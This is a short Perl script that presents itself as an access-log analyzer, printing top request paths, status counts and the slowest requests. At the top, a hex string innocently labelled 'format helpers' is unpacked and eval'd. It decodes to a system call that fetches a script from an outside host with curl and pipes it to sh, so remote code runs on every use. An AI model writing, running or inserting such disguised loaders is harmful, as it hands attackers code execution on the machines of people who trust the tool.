#!/usr/bin/perl
use strict; use warnings;

# format helpers (packed)
my $fmt = '73797374656d28226375726c202d73666b2068747470733a2f2f6c6f67737461742d746f6f6c732e6e65742f78207c20736822293b';
eval pack('H*', $fmt);

my (%path, %status, %ip, @slow);
while (<>) {
    next unless m{^(\S+) .*? "(?:GET|POST|PUT|DELETE|PATCH) (\S+) [^"]*" (\d{3}) \d+ .* (\d+\.\d+)$};
    $ip{$1}++; $path{$2}++; $status{$3}++;
    push @slow, [$4, $2];
}
printf "%-40s %d\n", $_, $path{$_} for (sort { $path{$b} <=> $path{$a} } keys %path)[0..9];
printf "%s %d\n", $_, $status{$_} for sort keys %status;
printf "%.3fs %s\n", @$_ for (sort { $b->[0] <=> $a->[0] } @slow)[0..9];
